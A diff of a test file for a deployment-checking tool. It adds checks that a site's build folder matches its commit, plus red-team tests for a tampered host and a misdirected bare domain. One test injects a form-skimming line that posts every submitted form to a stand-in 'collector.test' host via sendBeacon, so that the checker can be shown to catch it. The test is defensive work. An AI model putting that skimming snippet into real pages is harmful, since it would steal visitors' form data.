@@ -239,8 +239,15 @@ describe('npm run check:deployment on a healthy deployment', () => {
     // photo and its files; the functions' grant; the removal; the throttle; the site's and the processor's commits; signed-in
     // users' access and the throttle's pre-request; the project's keys; who handles the photos; whether visitors reach the services; the pages' own address; storage policies; the checkout's age;
     // visitors' inserts; the code the pages run, on a phone and on a second visit; what sends leads elsewhere; the database's functions; its triggers; edge functions;
-    // a foreign page's plain-text post; the address the processor counts (session 27); the site's other name (session 28).
-    expect(checks).toHaveLength(DEPLOYED_PAGES.length + 1 + 1 + 2 + 2 + 4 + 1 + 1 + LEAD_TABLES.length + 2 + 2 + 3 + 3 + 1 + 1 + 2 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 2 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1);
+    // a foreign page's plain-text post; the address the processor counts (session 27); the site's other name (session 28);
+    // the build folder held to its commit (session 29).
+    expect(checks).toHaveLength(DEPLOYED_PAGES.length + 1 + 1 + 2 + 2 + 4 + 1 + 1 + LEAD_TABLES.length + 2 + 2 + 3 + 3 + 1 + 1 + 2 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 2 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1);
+    // The folder the host is held to is the build of the commit its stamp names: the check built it again elsewhere.
+    expect(lines).toContainEqual(
+      expect.stringMatching(
+        new RegExp(`^ok {4}build folder ${site.buildDir} is what its commit builds: ${site.buildDir}/ is byte for byte the build of [0-9a-f]{12}\\S* .*with the \\d+ settings its stamp names: its \\d+ files, none more or less \\((rebuilt from this checkout's git in \\d+ s|compared with the rebuild kept in node_modules/\\.cache/check-deployment/rebuilds/[0-9a-f]+\\.json)\\)$`),
+      ),
+    );
     // Each function's body in the database is the md5 of the text its migration gives it (pg_proc.prosrc, verbatim),
     // its security and SET options are its migration's, and the migrations' role (here the superuser postgres) owns it.
     expect(lines.some((line) => /^ok {4}database functions are the migrations' own: the \d+ functions the migrations make are in the database with the migrations' bodies, security and SET options, owned by postgres$/.test(line)), lines.join('\n')).toBe(true);
@@ -336,6 +343,7 @@ describe('npm run check:deployment on a healthy deployment', () => {
 
     expect(failed, lines.join('\n')).toEqual([]);
     expect(lines.filter((line) => line.startsWith('skip'))).toEqual([
+      `skip  build folder ${noBuild} is what its commit builds: ${noBuild}/ holds no built site, so what the host should serve is not known; run the check where the uploaded build is, or name it with --build-dir`,
       `skip  site is the build in ${noBuild}: ${path.join(noBuild, 'index.html')} is not there, so which build the host serves is not known; run the check where the uploaded build is, or name it with --build-dir`,
       `skip  pages run only the build's scripts, on a phone and on a second visit too: phones (Android's Chrome, an iPhone's Safari, Instagram's browser), visitors from a Google search and an Instagram advert get the same pages (no page set a cookie, so a second visit is a first), but without the build in ${noBuild}/ the scripts the pages should run are not known (a host may add its own); run the check where the uploaded build is, or name it with --build-dir`,
       "skip  project runs no edge function but the checkout's: could not look: no SUPABASE_ACCESS_TOKEN is set, and only the management API lists a project's edge functions (a personal access token, from the dashboard's Account > Access Tokens; give it to the check as you give it the secret key); an edge function runs with the project's secret key (Supabase gives it SUPABASE_SERVICE_ROLE_KEY), and one deployed with verify_jwt off answers anyone, so one the business does not know of may hand out every lead",
@@ -345,7 +353,7 @@ describe('npm run check:deployment on a healthy deployment', () => {
     ]);
     // Named again at the end, first of all as not checked, and not a pass by its exit code either (not 3: `$? -ne 1`).
     expect(lines.at(-1)).toBe(
-      `NOT CHECKED: 6 of ${lines.filter((line) => /^(ok {3}|FAIL|skip) /.test(line)).length} checks could not run from here (site is the build in ${noBuild}; pages run only the build's scripts, on a phone and on a second visit too; project runs no edge function but the checkout's; site served over https with HSTS; pages send a content security policy; throttle tells two clients apart), so the deployment is not known to work; none of the others failed.`,
+      `NOT CHECKED: 7 of ${lines.filter((line) => /^(ok {3}|FAIL|skip) /.test(line)).length} checks could not run from here (build folder ${noBuild} is what its commit builds; site is the build in ${noBuild}; pages run only the build's scripts, on a phone and on a second visit too; project runs no edge function but the checkout's; site served over https with HSTS; pages send a content security policy; throttle tells two clients apart), so the deployment is not known to work; none of the others failed.`,
     );
     expect(code).toBe(1);
   }, 300_000);
@@ -604,6 +612,70 @@ describe('npm run check:deployment on a broken deployment', () => {
     }
     expect(await leftovers(site.stack)).toEqual([]);
   }, 300_000);
+
+  it("fails a build folder downloaded from a host that changed a script, which made the build lines compare the host with itself (red-team, session 29)", async () => {
+    const collector = "\n;addEventListener('submit',e=>navigator.sendBeacon('https://collector.test/',new FormData(e.target)),true);";
+    const host = await startHost(site.siteUrl, otherHostPort, async (asked, upstream) => {
+      const reply = await upstream();
+      return /^\/assets\/index-[^/]+\.js$/.test(asked.path) && reply.status === 200 ? { ...reply, body: `${reply.body}${collector}` } : reply;
+    });
+    // What an operator gets who mirrors the live site "to be sure it is what was uploaded": the host's bytes.
+    const mirror = fs.mkdtempSync(path.join(os.tmpdir(), 'check-deployment-mirror-'));
+    fs.cpSync(site.buildDir, mirror, { recursive: true });
+    const { entry } = JSON.parse(fs.readFileSync(path.join(mirror, 'build-stamp.json'), 'utf8')) as { entry: string };
+    fs.appendFileSync(path.join(mirror, entry), collector);
+    try {
+      const { failed, lines } = await checkDeployment(envFor(site.stack), ['--client-addresses', '127.0.0.2,127.0.0.3', '--build-dir', mirror], host.url);
+
+      // Every line that compares the host with the folder passes (it is the host's copy); the folder's own line does not.
+      expect(failed, lines.join('\n')).toEqual([
+        expect.stringMatching(
+          new RegExp(`^FAIL {2}build folder ${mirror} is what its commit builds: ${mirror}/ is not the build of [0-9a-f]{12}\\S* .*with the \\d+ settings its stamp names: ${entry.slice(1).replace(/[.*+?^${}()|[\]\\]/g, '\\$&')} differs \\(.*\\): a folder downloaded from the host, or changed after the build, makes the lines below compare the host with itself`),
+        ),
+      ]);
+    } finally {
+      await host.close();
+      fs.rmSync(mirror, { recursive: true, force: true });
+    }
+    expect(await leftovers(site.stack)).toEqual([]);
+  }, 300_000);
+
+  it("asks the site's other name of a real server: fails a bare domain that serves an earlier build or redirects to another site, and passes one that redirects to www. (session 29; session 28 judged the answers only)", async () => {
+    // A www. site and its bare domain on one server here, told apart by the Host header as a host's virtual servers
+    // are; the names resolve to 127.0.0.1 inside the check's process only (tests/support/resolve-test-names.mjs).
+    const port = await findFreePort();
+    const [www, bare] = [`www.haddon-floorworks.test:${port}`, `haddon-floorworks.test:${port}`];
+    let bareAnswer: (upstream: (path?: string) => Promise<Answer>) => Promise<Answer> = (upstream) => upstream();
+    const host = await startHost(site.siteUrl, port, async (asked, upstream) => (asked.headers.host === bare ? bareAnswer(upstream) : upstream()));
+    const env = {
+      ...envFor(site.stack),
+      NODE_OPTIONS: `--import=${path.join(PROJECT_ROOT, 'tests', 'support', 'resolve-test-names.mjs')}`,
+      TEST_HOST_ADDRESSES: 'www.haddon-floorworks.test=127.0.0.1,haddon-floorworks.test=127.0.0.1',
+    };
+    const otherNameLine = async () => {
+      const { lines } = await checkDeployment(env, defaultArgs(), `http://${www}`);
+      return lines.find((line) => line.includes("site's other name serves no other site")) ?? lines.join('\n');
+    };
+    try {
+      // The bare domain left on the old host: the previous build's pages, its own entry.
+      bareAnswer = async (upstream) => {
+        const reply = await upstream();
+        return { ...reply, body: reply.body.replaceAll('/assets/index-', '/assets/index-0ld') };
+      };
+      expect(await otherNameLine()).toMatch(
+        new RegExp(`^FAIL {2}site's other name serves no other site: http://${bare.replace(/\./g, '\\.')}/ serves a page of another build \\(/assets/index-0ld\\S+\\.js, where http://${www.replace(/\./g, '\\.')} starts /assets/index-\\S+\\.js\\): visitors who type the name without www\\. get it`),
+      );
+      bareAnswer = async () => ({ status: 301, headers: { location: 'https://old-floors.test/' }, body: '' });
+      expect(await otherNameLine()).toBe(
+        `FAIL  site's other name serves no other site: http://${bare}/ redirects to https://old-floors.test/, not to http://${www}: visitors who type the name without www. land elsewhere; redirect it to http://${www}`,
+      );
+      bareAnswer = async () => ({ status: 308, headers: { location: `http://${www}/` }, body: '' });
+      expect(await otherNameLine()).toBe(`ok    site's other name serves no other site: http://${bare}/ redirects to http://${www}`);
+    } finally {
+      await host.close();
+    }
+    expect(await leftovers(site.stack)).toEqual([]);
+  }, 900_000);
 
   it("fails a host that changes a script or stylesheet only as a browser loads it (an iPhone's Safari, a page's own load), pages that visitors from a search or an advert get otherwise, headers that send visitors elsewhere or load another site's stylesheet, a page redirected to another host, and a phone number swapped (red-team, session 28)", async () => {
     const host = await startHost(site.siteUrl, otherHostPort, async (asked, upstream) => {
